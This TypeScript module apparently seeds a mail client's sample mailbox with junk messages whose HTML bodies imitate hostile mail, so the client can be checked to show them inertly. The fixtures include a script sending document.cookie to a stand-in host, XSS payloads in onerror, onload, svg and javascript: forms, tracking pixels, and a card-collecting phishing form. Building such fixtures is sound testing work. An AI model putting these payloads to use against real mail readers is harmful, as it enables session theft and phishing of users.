import type { SeedMessage } from '../../mailTypes';
import { outside, type Person } from './cast';
import { alternative, hourMs, sampleNowMs, type SampleWriter } from './sampleWriter';

interface Lure {
  readonly from: Person;
  readonly subject: string;
  readonly html: string;
}

/** HTML that tries what hostile mail tries. A reader must show it without running or fetching anything. */
const lures: readonly Lure[] = [
  {
    from: outside.spammer,
    subject: 'Your mailbox is almost full!!! Verify now',
    html: '<html><head><script>document.location="https://secure-login.invalid/?c="+document.cookie</script></head><body onload="alert(1)"><p>Dear user, <a href="https://secure-login.invalid/">verify your password</a> within 24 hours.</p><img src="https://tracker.invalid/pixel.gif?u=alex" width="1" height="1"></body></html>',
  },
  {
    from: { realName: 'alex@demo.example', address: 'x19@bulk.invalid' },
    subject: 'I recorded you',
    html: '<p>Send 0.1 coins.</p><iframe src="https://bulk.invalid/frame"></iframe><object data="https://bulk.invalid/a.swf"></object>',
  },
  {
    from: { realName: 'Parcel Service', address: 'delivery@parcel-tracking.invalid' },
    subject: 'Your parcel is waiting 📦',
    html: '<style>@import url(https://parcel-tracking.invalid/s.css); body{background:url(https://parcel-tracking.invalid/b.png)}</style><form action="https://parcel-tracking.invalid/pay"><input name="card"><button>Pay 1.99</button></form>',
  },
  {
    from: { realName: 'CEO', address: 'ceo@demo-example.invalid' },
    subject: 'Urgent transfer',
    html: '<a href="javascript:alert(document.domain)">Open the order</a><svg><script>alert(1)</script></svg><math><mtext></mtext></math><img src=x onerror=alert(1)>',
  },
  {
    from: { realName: 'Prize Desk', address: 'winner@lottery.invalid' },
    subject: 'Congratu\u200blations, y\u043eu have w\u043en',
    html: '<base href="https://lottery.invalid/"><meta http-equiv="refresh" content="0;url=https://lottery.invalid/"><a href="data:text/html,<script>alert(1)</script>">Claim</a><!--[if mso]><xml></xml><![endif]-->',
  },
];

export function junkLetters(writer: SampleWriter, count: number): SeedMessage[] {
  return Array.from({ length: count }, (_, at) => {
    const lure = lures[at % lures.length]!;
    return writer.letter({
      from: lure.from,
      subject: lure.subject,
      dateMs: sampleNowMs - (count - at) * 17 * hourMs,
      flags: at % 4 === 0 ? ['Junk'] : ['Junk', 'Seen'],
      headers: [['X-Junk-Score', `[${'X'.repeat(5 + (at % 6))}]`]],
      body: () => alternative('Open this message in a program that shows HTML.\n', lure.html),
    });
  });
}
